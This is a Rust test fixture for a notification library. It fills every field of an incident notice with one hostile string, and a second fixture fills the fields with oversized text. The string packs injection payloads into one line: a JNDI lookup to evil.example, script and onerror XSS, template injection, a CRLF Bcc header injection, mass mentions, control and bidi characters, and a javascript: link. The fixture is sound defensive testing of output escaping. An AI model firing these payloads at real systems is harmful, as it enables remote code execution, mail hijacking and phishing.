//! An incident all of whose texts are an attacker's.

use notify::Notice;

use crate::fixture::notice;

/// What each kind of receiver would obey: mentions, links, emphasis, markup, macros, templates,
/// headers of mail, control characters, and text that runs backwards.
pub(crate) const HOSTILE: &str = "<!channel> <@U1> <https://evil.example|click> @channel *b* _i_ `c` \
    [click](https://evil.example) [click|https://evil.example] [~admin] {noformat} {html}x{html} \
    !https://evil.example/x.png! <at>all</at> <script>alert(1)</script><img src=x onerror=y> \
    & \" ' ${jndi:ldap://evil.example} {{7*7}} \r\nBcc: evil@evil.example\r\n\r\n\u{1b}[31m\u{202e}gnp\u{0}\\";

/// How [`HOSTILE`] begins and ends where nothing but what hides was spelled out.
pub(crate) const SPELLED_OUT: &str =
    r"{{7*7}} \r\nBcc: evil@evil.example\r\n\r\n\u{1b}[31m\u{202e}gnp\0\";

pub(crate) fn hostile() -> Notice {
    let text = || HOSTILE.to_owned();
    Notice {
        title: text(),
        achieved: vec![text()],
        accounts: vec![text()],
        keys: vec![text()],
        owner: text(),
        kind: text(),
        reasons: vec![text()],
        steps: vec![text()],
        assignee: Some(text()),
        resolution: Some(text()),
        link: Some(format!("javascript:alert('{HOSTILE}')")),
        ..notice()
    }
}

/// An incident whose texts are longer than any receiver takes.
pub(crate) fn huge() -> Notice {
    let text = || "日".repeat(50_000);
    let list = || vec![text(); 200];
    Notice {
        title: text(),
        achieved: list(),
        accounts: list(),
        keys: list(),
        owner: text(),
        reasons: list(),
        steps: list(),
        ..notice()
    }
}
